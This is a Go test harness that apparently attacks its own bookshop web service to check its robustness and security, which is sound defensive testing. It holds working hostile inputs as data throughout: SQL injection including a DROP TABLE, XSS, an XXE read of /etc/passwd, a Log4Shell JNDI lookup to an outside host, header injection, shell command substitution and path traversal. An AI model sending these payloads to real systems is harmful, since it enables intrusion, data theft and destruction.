package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"strings"
)

// gzipped returns n zeros, compressed.
func gzipped(n int) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(make([]byte, n)) // a bytes.Buffer takes all
	_ = w.Close()
	return b.String()
}

// bodies are JSON bodies and forms that no reader sends.
func bodies(ctx context.Context, r *raid) error {
	var list []request
	post := func(path, kind, body string, more ...string) {
		h := http.Header{"Content-Type": {kind}}
		for i := 0; i < len(more); i += 2 {
			h.Set(more[i], more[i+1])
		}
		list = append(list, request{http.MethodPost, path, body, h})
	}
	const api, form = "/api/v1/interactions", "/interactions"
	for _, body := range []string{
		strings.Repeat("[", 8000), strings.Repeat(`{"a":`, 1600), `{"id":` + strings.Repeat("[", 4000) + strings.Repeat("]", 3900),
		`{"user_id":1,"user_id":2,"book_id":1,"kind":"like"}`, `{"user_id":1,"book_id":1,"kind":"like","admin":true}`,
		`{"user_id":1e400,"book_id":1,"kind":"like"}`, `{"user_id":-0,"book_id":1,"kind":"like"}`, `{"user_id":1,"book_id":1.5,"kind":"like"}`,
		`{"user_id":"1' OR '1'='1","book_id":1,"kind":"like"}`, "{\"user_id\":1,\"book_id\":1,\"kind\":\"li\xff\xfeke\"}",
		"\xef\xbb\xbf{}", "{}{}", "null", `{"user_id":` + strings.Repeat("9", 7000) + `,"book_id":1,"kind":"like"}`, "",
		`{"user_id":1,"book_id":1,"kind":"like","id":"` + strings.Repeat(`\ud800`, 1200) + `"}`,
	} {
		post(api, "application/json", body)
	}
	post(api, "application/json", gzipped(8 << 20)[:8000], "Content-Encoding", "gzip")
	post(api, "application/xml", `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`)
	post(api, "text/plain", `{"user_id":1,"book_id":1,"kind":"like"}`)
	post(form, "application/x-www-form-urlencoded", gzipped(8 << 20)[:8000], "Content-Encoding", "gzip")
	post(form, "application/x-www-form-urlencoded", strings.Repeat("a&", 4000))
	post(form, "application/x-www-form-urlencoded", strings.Repeat("book=1&", 1000)+"do=nothing")
	post(form, "application/x-www-form-urlencoded", "book=%ff%fe&do=%00&%zz=1;x=2")
	post(form, "multipart/form-data; boundary=x", strings.Repeat("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n", 100)+"--x--")
	post(form, "multipart/form-data", "--x--")
	r.askAll(ctx, r.n(60), list, refused)
	return nil
}

// forwarded are headers that a proxy sets, forged.
func forwarded(ctx context.Context, r *raid) error {
	random := rand.New(rand.NewPCG(1, 1))
	var list []request
	for range 50 {
		ip := fmt.Sprintf("%d.%d.%d.%d", 1+random.IntN(223), random.IntN(256), random.IntN(256), random.IntN(256))
		list = append(list,
			request{header: http.Header{"X-Forwarded-For": {ip}, "X-Real-Ip": {ip}, "Forwarded": {"for=" + ip}}},
			request{path: "/books", header: http.Header{"X-Forwarded-Host": {"elsewhere.test"}, "X-Forwarded-Proto": {"gopher"}}},
			request{path: "/api", header: http.Header{"X-Forwarded-For": {strings.Repeat(ip+", ", 200)}}},
			request{path: "//elsewhere.test/..", header: http.Header{"X-Original-Url": {"/api/v1/readers/1"}, "X-Rewrite-Url": {"/api"}, "X-Http-Method-Override": {"DELETE"}}},
		)
	}
	for i := range list {
		if list[i].path == "" {
			list[i].path = "/"
		}
	}
	r.askAll(ctx, r.n(10), list, func(_ request, a answered) error {
		if a.status >= 500 || bytes.Contains(a.body, []byte("elsewhere.test/")) || strings.Contains(fmt.Sprint(a.header), "elsewhere") && a.status < 300 {
			return fmt.Errorf("status %d; the forged host is in the answer", a.status)
		}
		return local(a)
	})
	return nil
}

// local refuses a redirect to another host.
func local(a answered) error {
	to := a.header.Get("Location")
	u, err := url.Parse(to)
	if err != nil || u.Host != "" || strings.HasPrefix(to, "//") || strings.Contains(to, `\`) {
		return fmt.Errorf("a redirect to %q", to)
	}
	return nil
}

// injections puts what other languages would execute where the shop takes text.
func injections(ctx context.Context, r *raid) error {
	var list []request
	for _, text := range []string{
		"' OR '1'='1", "1; DROP TABLE books; --", "1 UNION SELECT * FROM interactions", "x'||pg_sleep(10)||'", "%' ESCAPE '!",
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "{{7*7}}", "${7*7}", "${jndi:ldap://elsewhere.test/a}",
		"x\r\nSet-Cookie: injected=1", "x\r\n\r\nHTTP/1.1 200 OK", "x\n{\"level\":\"error\",\"msg\":\"injected\"}", "\u202egnp.exe", "\x1b[31mred", "a\x00b",
		"\xff\xfe", "=cmd|' /C calc'!A0", strings.Repeat("%", 200), "../../../etc/passwd", "`id`", "$(id)", "*)(uid=*",
	} {
		in := url.QueryEscape(text)
		at := url.PathEscape(text)
		for _, path := range []string{
			"/search?q=" + in, "/books?page=" + in, "/books/" + at, "/books/" + at + "/cover.svg", "/categories/" + at, "/books/1?" + in + "=" + in,
			"/api/v1/books/" + at, "/api/v1/recommendations?user_id=" + in, "/api/v1/recommendations?user_id=1&category=" + in,
			"/api/v1/readers/" + at + "/history", "/static/" + at, "/" + at,
		} {
			list = append(list, request{path: path})
		}
		list = append(list,
			request{http.MethodPost, "/interactions", "book=" + in + "&do=" + in + "&id=" + in + "&return=" + in, form()},
			request{http.MethodPost, "/reader", "reader=" + in + "&return=" + in, form()},
			request{http.MethodPost, "/interactions", "book=1&do=like&return=//elsewhere.test/" + in, form()},
			request{http.MethodDelete, "/api/v1/readers/" + at, "", nil},
			request{method: http.MethodHead, path: "/shelf/events?after=" + in},
		)
		if clean := strings.Map(printableASCII, text); clean == text {
			list = append(list, request{path: "/", header: http.Header{"User-Agent": {text}, "Referer": {text}, "X-Request-Id": {text}, "Cookie": {"visitor=" + text}, "Traceparent": {text}}})
		}
	}
	r.askAll(ctx, r.n(4), list, func(_ request, a answered) error {
		switch {
		case a.status >= 500:
			return fmt.Errorf("status %d", a.status)
		case bytes.Contains(a.body, []byte("<script>alert")) || bytes.Contains(a.body, []byte("<img src=x")):
			return errors.New("the answer has the script")
		case strings.Contains(fmt.Sprint(a.header), "injected"):
			return errors.New("the answer has the header")
		case bytes.Contains(a.body, []byte("root:x:")):
			return errors.New("the answer has a file of the system")
		}
		return local(a)
	})
	return nil
}

func printableASCII(r rune) rune {
	if r < ' ' || r > '~' {
		return -1
	}
	return r
}

// paths are tricks with paths, sent as they are.
func paths(ctx context.Context, r *raid) error {
	list := []string{
		"/static/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", `/static/..\..\etc\passwd`, "/static//etc/passwd",
		"/static/%00", "/static/", "/static/.", "//elsewhere.test/", "//elsewhere.test/%2f..", "/%5celsewhere.test", "/books//1", "/books/./1", "/books/../books/1/", "/;/books", "/books/1;a=b",
		"/books/%31", "/books/+1", "/books/0x1", "/books/-1", "/books/9223372036854775808", "/books/" + strings.Repeat("9", 2000), "/books/1/cover.svg/..", "/api/../api/v1/books", "/api//v1/books",
		"/API/v1/books", "/api/v1/books/", "/debug/pprof/", "/metrics", "/livez", "/debug/fault", "/.git/config", "/.env", "/" + strings.Repeat("a/", 900), "/" + strings.Repeat("a", 15_000),
		"/?" + strings.Repeat("a=1&", 3000), "/search?q=" + strings.Repeat("%20", 600), "/books?page=99999999999", "/books?page=-1", "/books?page=1&page=2", "/%", "/%zz", "/\xff\xfe", "/%ff%fe", "*", "/#", "/?#",
	}
	for range r.n(20) {
		for _, path := range list {
			a, err := r.say(ctx, "GET "+path+" HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n")
			if ctx.Err() != nil {
				return nil //nolint:nilerr // the attack is over
			}
			r.count("requests", 1)
			switch {
			case err != nil:
			case a.status >= 500:
				err = fmt.Errorf("status %d", a.status)
			case bytes.Contains(a.body, []byte("root:x:")) || bytes.Contains(a.body, []byte("goroutine")) || bytes.Contains(a.body, []byte("go_goroutines")):
				err = errors.New("the answer has what is not for readers")
			default:
				err = local(a)
			}
			if err != nil {
				r.fail("%.80q: %v", path, err)
			}
		}
	}
	return nil
}

// costly are well-formed requests that ask for much.
func costly(ctx context.Context, r *raid) error {
	list := []request{{path: "/search?q=" + strings.Repeat("e+", 90)}, {path: "/search?q=" + strings.Repeat("a", 190)}, {path: "/api/v1/books?page=1000000"}, {path: "/books?page=1000000"}}
	for _, c := range "eaot" {
		list = append(list, request{path: "/search?q=" + string(c)})
	}
	r.askAll(ctx, r.n(40), list, func(_ request, a answered) error {
		if a.status >= 500 {
			return fmt.Errorf("status %d", a.status)
		}
		return nil
	})
	return nil
}
